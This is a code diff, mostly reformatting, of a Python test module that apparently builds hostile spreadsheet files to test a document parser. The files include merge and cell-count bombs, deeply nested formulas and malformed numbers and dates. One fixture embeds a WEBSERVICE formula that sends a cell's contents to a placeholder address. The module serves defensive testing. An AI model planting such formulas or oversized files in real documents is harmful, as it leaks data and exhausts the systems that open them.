@@ -46,12 +46,19 @@ def _extents() -> Iterator[Hostile]:
     million = workbook(RawMember(_PART, packed, size))
     yield holding(kind, "million-merged.xlsx", million, *_TOO_MUCH)
     overlapping = '<mergeCell ref="A1:ZZ10000"/>' * 50
-    yield holding(kind, "merged-over-each-other.xlsx", workbook(sheet(_CELL, after=f"<mergeCells>{overlapping}</mergeCells>")), *_TOO_MUCH)
+    yield holding(
+        kind,
+        "merged-over-each-other.xlsx",
+        workbook(sheet(_CELL, after=f"<mergeCells>{overlapping}</mergeCells>")),
+        *_TOO_MUCH,
+    )
     packed, size = repeated(b"<row><c><v>1</v></c><c><v>2</v></c></row>", 4_000_000)
     rows = RawMember(_PART, packed, size)  # no XML from its second row on, but cells enough before it
     yield holding(kind, "eight-million-cells.xlsx", workbook(rows), *_TOO_MUCH)
     wide = "".join(f"<c><v>{n}</v></c>" for n in range(16_384))
-    yield holding(kind, "as-wide-as-can-be.xlsx", workbook(sheet(f'<row r="1">{wide}</row><row r="2">{wide}</row>')), INDEXED)
+    yield holding(
+        kind, "as-wide-as-can-be.xlsx", workbook(sheet(f'<row r="1">{wide}</row><row r="2">{wide}</row>')), INDEXED
+    )
     yield holding(kind, "many-empty-rows.xlsx", workbook(sheet(_CELL + "<row/>" * 200_000)), INDEXED)
 
 
@@ -74,13 +81,13 @@ def _strings() -> Iterator[Hostile]:
 def _shared(part: bytes, others: dict[str, bytes]) -> bytes:
     """openpyxl finds the strings by the type in [Content_Types].xml."""
     types = (
-        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-        '<Default Extension="xml" ContentType="application/xml"/>'
-        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
-        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
-        "</Types>"
-    ).encode()
+        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        b'<Default Extension="xml" ContentType="application/xml"/>'
+        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+        b"</Types>"
+    )
     return workbook(part, **{"[Content_Types].xml": types, **others})
 
 
@@ -89,19 +96,27 @@ def _structure() -> Iterator[Hostile]:
     relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
     listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 5001))
     book = f'<workbook {_NAMESPACE} xmlns:r="{relations}"><sheets>{listed}</sheets></workbook>'.encode()
-    yield holding(kind, "one-sheet-five-thousand-times.xlsx", workbook(sheet(_CELL), **{"xl/workbook.xml": book}), *_TOO_MUCH)
+    yield holding(
+        kind, "one-sheet-five-thousand-times.xlsx", workbook(sheet(_CELL), **{"xl/workbook.xml": book}), *_TOO_MUCH
+    )
     none = f'<workbook {_NAMESPACE} xmlns:r="{relations}"><sheets/></workbook>'.encode()
-    yield holding(kind, "no-sheets.xlsx", workbook(sheet(_CELL), **{"xl/workbook.xml": none}), "FileWithoutText", "FileDamaged")
+    yield holding(
+        kind, "no-sheets.xlsx", workbook(sheet(_CELL), **{"xl/workbook.xml": none}), "FileWithoutText", "FileDamaged"
+    )
     formula = '<row r="1"><c r="A1"><f>' + "(" * 100_000 + "1" + ")" * 100_000 + "</f></c></row>"
     yield holding(kind, "formula-nested.xlsx", workbook(sheet(formula + _CELL.replace("1", "2"))), INDEXED)
     outside = '<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/"&amp;A2)</f><v>結果</v></c></row>'
     yield holding(kind, "formula-network.xlsx", workbook(sheet(outside)), INDEXED, "FileDamaged")
     number = '<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>nan</v></c><c r="C1" t="d"><v>9999-99-99</v></c></row>'
-    yield holding(kind, "numbers-without-end.xlsx", workbook(sheet(number + _CELL.replace("1", "2"))), INDEXED, "FileDamaged")
+    yield holding(
+        kind, "numbers-without-end.xlsx", workbook(sheet(number + _CELL.replace("1", "2"))), INDEXED, "FileDamaged"
+    )
     date = '<row r="1"><c r="A1" s="1"><v>99999999999</v></c></row>'
     yield holding(kind, "date-too-far.xlsx", workbook(sheet(date + _CELL.replace("1", "2"))), INDEXED, "FileDamaged")
-    styles = f'<styleSheet {_NAMESPACE}><cellXfs>{"<xf/>" * 40_000}</cellXfs></styleSheet>'.encode()
-    yield holding(kind, "styles-without-end.xlsx", workbook(sheet(_CELL), **{"xl/styles.xml": styles}), INDEXED, "FileDamaged")
+    styles = f"<styleSheet {_NAMESPACE}><cellXfs>{'<xf/>' * 40_000}</cellXfs></styleSheet>".encode()
+    yield holding(
+        kind, "styles-without-end.xlsx", workbook(sheet(_CELL), **{"xl/styles.xml": styles}), INDEXED, "FileDamaged"
+    )
 
 
 def _wide_tables() -> Iterator[Hostile]:
